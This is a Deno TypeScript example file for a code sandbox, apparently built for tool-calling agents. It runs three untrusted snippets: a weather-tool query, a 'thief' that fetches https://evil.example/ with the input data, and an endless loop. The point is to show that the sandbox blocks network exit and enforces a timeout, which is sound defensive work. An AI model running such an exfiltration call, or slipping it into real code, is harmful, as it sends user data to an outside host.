/**
 * Three untrusted programs in a sandbox:
 *
 *     deno run --allow-ffi --allow-read example.ts
 */
import { createRuntime, type RpcHandler, SandboxWorker } from "./mod.ts";

const weather: Record<string, number> = { Lisbon: 24, Bergen: 9 };

/** The only way out of the sandbox: calls that are not answered here fail. */
const onRpc: RpcHandler = (method, args) => {
  if (method !== "weather:now") return Promise.reject(new Error(`there is no tool ${method}`));
  const { city } = args as { city: string };
  return Promise.resolve({ city, celsius: weather[city] ?? null });
};

const sandbox = new SandboxWorker({ onRpc, executionTimeoutMs: 1000, memoryLimitMB: 64 });

const warmest = `
  const all = await Promise.all(args.cities.map((city) => mcp.weather.now({ city })));
  return all.sort((a, b) => b.celsius - a.celsius)[0];
`;
const thief = `return fetch("https://evil.example/?cities=" + args.cities)`;
const endless = `for (;;) {}`;

for (const code of [warmest, thief, endless]) {
  const { success, value, error } = await sandbox.execute(code, { cities: ["Bergen", "Lisbon"] });
  console.log(success ? value : `${error?.code}: ${error?.message}`);
}
sandbox.shutdown();

// The same with everything that is known of a run.
await using runtime = createRuntime({ onRpc });
const { result, calls } = await runtime.run(warmest, { cities: ["Bergen"] }, {
  tools: ["weather:now"],
  signal: AbortSignal.timeout(1000),
});
console.log(result, calls.map(({ method, state }) => `${method} ${state}`));
